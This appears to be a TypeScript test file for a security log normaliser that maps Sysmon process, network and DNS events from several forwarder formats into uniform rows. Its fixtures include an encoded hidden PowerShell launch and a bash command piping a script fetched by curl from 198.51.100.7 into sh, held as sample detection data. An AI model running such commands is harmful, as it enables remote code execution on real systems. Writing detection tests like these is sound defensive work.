// Sysmon process, network and other events as forwarders send them: flat (NXLog), Winlogbeat
// and XML-as-JSON (Sysmon for Linux, Windows event XML), checked for family, logsources,
// Sysmon-style fields, host and the normalised rows.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { EVENT_TIME, normalise } from './test-normalise.js';

// Factories: realistic records, overridable per test.
const WINDOWS_PROCESS = {
  UtcTime: '2026-11-22 10:15:00.123',
  ProcessGuid: '{5770385f-c22a-6546-2b00-000000001a00}',
  ProcessId: '6412',
  Image: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
  FileVersion: '10.0.19041.3996',
  OriginalFileName: 'PowerShell.EXE',
  CommandLine: 'powershell.exe -nop -w hidden -enc SQBFAFgA',
  CurrentDirectory: 'C:\\Users\\alice\\',
  User: 'CORP\\alice',
  IntegrityLevel: 'Medium',
  Hashes: 'SHA256=9F914D42706FE215501044ACD85A32D58AAEF1419D404FDDFA5D3B48F66CCD9F',
  ParentProcessGuid: '{5770385f-c1f0-6546-1f00-000000001a00}',
  ParentProcessId: '5120',
  ParentImage: 'C:\\Windows\\System32\\cmd.exe',
  ParentCommandLine: '"C:\\Windows\\system32\\cmd.exe" /c run.bat',
  ParentUser: 'CORP\\alice',
};

function sysmonFlat(overrides: Record<string, unknown> = {}): Record<string, unknown> {
  return {
    EventTime: '2026-11-22 10:15:00',
    Hostname: 'WS-017.corp.example',
    EventID: 1,
    SourceName: 'Microsoft-Windows-Sysmon',
    Channel: 'Microsoft-Windows-Sysmon/Operational',
    Computer: 'WS-017.corp.example',
    ProcessID: 2960,
    ...WINDOWS_PROCESS,
    ...overrides,
  };
}

function winlogbeat(eventData: Record<string, unknown>, eventId: string): Record<string, unknown> {
  return {
    '@timestamp': '2026-11-22T10:15:00.123Z',
    agent: { id: '8a3f1c9e-agent', type: 'winlogbeat', version: '8.15.0' },
    host: { name: 'ws-017' },
    event: { code: eventId, provider: 'Microsoft-Windows-Sysmon' },
    winlog: {
      channel: 'Microsoft-Windows-Sysmon/Operational',
      computer_name: 'WS-017.corp.example',
      event_id: eventId,
      provider_name: 'Microsoft-Windows-Sysmon',
      record_id: 88231,
      event_data: eventData,
    },
  };
}

function sysmonXml(eventId: number, channel: string, data: [string, string | undefined][]): Record<string, unknown> {
  return {
    Event: {
      '@xmlns': 'http://schemas.microsoft.com/win/2004/08/events/event',
      System: {
        Provider: { '@Name': channel.startsWith('Linux') ? 'Linux-Sysmon' : 'Microsoft-Windows-Sysmon' },
        EventID: { '#text': String(eventId) },
        Channel: channel,
        Computer: 'build-07',
        TimeCreated: { '@SystemTime': '2026-11-22T10:15:00.1Z' },
      },
      EventData: {
        Data: data.map(([name, text]) => (text === undefined ? { '@Name': name } : { '@Name': name, '#text': text })),
      },
    },
  };
}

const LINUX_PROCESS: [string, string | undefined][] = [
  ['RuleName', '-'],
  ['ProcessGuid', '{f1e2d3c4-0000-0000-0000-000000000001}'],
  ['ProcessId', '31337'],
  ['Image', '/usr/bin/curl'],
  ['FileVersion', '-'],
  ['CommandLine', 'curl -s http://198.51.100.7/x.sh'],
  ['CurrentDirectory', '/tmp'],
  ['User', 'www-data'],
  ['LogonId', '33'],
  ['ParentProcessId', '31300'],
  ['ParentImage', '/bin/bash'],
  ['ParentCommandLine', 'bash -c curl -s http://198.51.100.7/x.sh | sh'],
  ['Description', undefined],
];

test('Sysmon EID 1, flat Windows (NXLog): process_creation for windows, Sysmon names, process row', () => {
  const event = normalise(sysmonFlat());
  assert.equal(event.family, 'process');
  assert.deepEqual(event.logsources, [
    { product: 'windows' },
    { product: 'windows', service: 'sysmon' },
    { category: 'process_creation' },
    { category: 'process_creation', product: 'windows' },
  ]);
  assert.equal(event.fields.EventID, 1);
  assert.equal(event.fields.Image, WINDOWS_PROCESS.Image);
  assert.equal(event.fields.OriginalFileName, 'PowerShell.EXE');
  assert.equal(event.host, 'WS-017.corp.example');
  assert.equal(event.time, EVENT_TIME);
  assert.equal(event.keywords, WINDOWS_PROCESS.CommandLine);
  assert.deepEqual(event.process, {
    host: 'WS-017.corp.example',
    endpoint_id: null,
    user: 'CORP\\alice',
    process_name: 'powershell.exe',
    pid: 6412,
    parent_process_name: 'cmd.exe',
    parent_pid: 5120,
    executable_path: WINDOWS_PROCESS.Image,
    parent_executable_path: 'C:\\Windows\\System32\\cmd.exe',
    command_line: WINDOWS_PROCESS.CommandLine,
    parent_command_line: WINDOWS_PROCESS.ParentCommandLine,
    time: EVENT_TIME,
    source_format: 'sysmon',
  });
  assert.equal(event.network, undefined);
});

test('Sysmon EID 1 from Winlogbeat: event_data becomes top-level Sysmon names; agent id is the endpoint', () => {
  const event = normalise(winlogbeat(WINDOWS_PROCESS, '1'));
  assert.equal(event.family, 'process');
  assert.equal(event.fields.EventID, 1);
  assert.equal(event.fields.CommandLine, WINDOWS_PROCESS.CommandLine);
  assert.equal(event.fields.ParentImage, WINDOWS_PROCESS.ParentImage);
  assert.equal(event.fields['winlog.event_data.Image'], WINDOWS_PROCESS.Image, 'the flattened original stays');
  assert.equal(event.fields.Computer, 'WS-017.corp.example');
  assert.equal(event.host, 'WS-017.corp.example');
  assert.equal(event.process?.endpoint_id, '8a3f1c9e-agent');
  assert.equal(event.process.pid, 6412);
});

test('Sysmon EID 1 as XML-JSON with a Data list (Sysmon for Linux): linux product, empty elements are ""', () => {
  const event = normalise(sysmonXml(1, 'Linux-Sysmon/Operational', LINUX_PROCESS));
  assert.equal(event.family, 'process');
  assert.deepEqual(event.logsources, [
    { product: 'linux' },
    { product: 'linux', service: 'sysmon' },
    { category: 'process_creation' },
    { category: 'process_creation', product: 'linux' },
  ]);
  assert.equal(event.fields.Image, '/usr/bin/curl');
  assert.equal(event.fields.User, 'www-data');
  assert.equal(event.fields.Description, '');
  assert.equal(event.fields.EventID, 1);
  assert.equal(event.host, 'build-07');
  assert.equal(event.process?.process_name, 'curl');
  assert.equal(event.process.parent_process_name, 'bash');
  assert.equal(event.process.parent_pid, 31300);
});

test('Sysmon EID 1 XML-JSON, Windows, with {Name, #text} items and EventData as a bare list', () => {
  const record = sysmonXml(1, 'Microsoft-Windows-Sysmon/Operational', []);
  (record.Event as Record<string, unknown>).EventData = Object.entries(WINDOWS_PROCESS).map(([Name, text]) => ({
    Name,
    '#text': text,
  }));
  const event = normalise(record);
  assert.equal(event.family, 'process');
  assert.equal(event.logsources[0]?.product, 'windows');
  assert.equal(event.fields.Hashes, WINDOWS_PROCESS.Hashes);
  assert.equal(event.process?.command_line, WINDOWS_PROCESS.CommandLine);
});

test('Sysmon EID 3, flat Windows: network_connection, ports as numbers, Initiated as Sysmon text, outbound row', () => {
  const event = normalise(
    sysmonFlat({
      EventID: 3,
      Protocol: 'tcp',
      Initiated: 'true',
      SourceIsIpv6: 'false',
      SourceIp: '10.1.2.17',
      SourceHostname: 'WS-017.corp.example',
      SourcePort: '50412',
      DestinationIsIpv6: 'false',
      DestinationIp: '198.51.100.7',
      DestinationHostname: '-',
      DestinationPort: '443',
      DestinationPortName: 'https',
    }),
  );
  assert.equal(event.family, 'network');
  assert.deepEqual(event.logsources, [
    { product: 'windows' },
    { product: 'windows', service: 'sysmon' },
    { category: 'network_connection' },
    { category: 'network_connection', product: 'windows' },
  ]);
  assert.equal(event.fields.DestinationPort, 443);
  assert.equal(event.fields.SourcePort, 50412);
  assert.equal(event.fields.Initiated, 'true');
  assert.equal(event.process, undefined);
  assert.deepEqual(event.network, {
    host: 'WS-017.corp.example',
    endpoint_id: null,
    user: 'CORP\\alice',
    process_name: 'powershell.exe',
    pid: 6412,
    executable_path: WINDOWS_PROCESS.Image,
    source_ip: '10.1.2.17',
    source_port: 50412,
    destination_ip: '198.51.100.7',
    destination_port: 443,
    destination_hostname: '-',
    protocol: 'tcp',
    direction: 'outbound',
    time: EVENT_TIME,
    source_format: 'sysmon',
  });
});

test('Sysmon EID 3, Linux XML-JSON: inbound when Initiated is false', () => {
  const event = normalise(
    sysmonXml(3, 'Linux-Sysmon/Operational', [
      ['ProcessId', '812'],
      ['Image', '/usr/sbin/sshd'],
      ['User', 'root'],
      ['Protocol', 'tcp'],
      ['Initiated', 'false'],
      ['SourceIp', '203.0.113.50'],
      ['SourcePort', '51022'],
      ['DestinationIp', '10.0.0.4'],
      ['DestinationPort', '22'],
    ]),
  );
  assert.equal(event.family, 'network');
  assert.equal(event.logsources[0]?.product, 'linux');
  assert.equal(event.network?.direction, 'inbound');
  assert.equal(event.network.destination_port, 22);
  assert.equal(event.network.process_name, 'sshd');
});

test('other Sysmon events: family windows, their category and {product, service: sysmon}, fields as given', () => {
  const event = normalise(sysmonFlat({ EventID: 22, QueryName: 'evil.example', QueryResults: '::ffff:198.51.100.7;' }));
  assert.equal(event.family, 'windows');
  assert.deepEqual(event.logsources, [
    { product: 'windows' },
    { product: 'windows', service: 'sysmon' },
    { category: 'dns_query' },
    { category: 'dns_query', product: 'windows' },
  ]);
  assert.equal(event.fields.QueryName, 'evil.example');
  assert.equal(event.process, undefined);
});
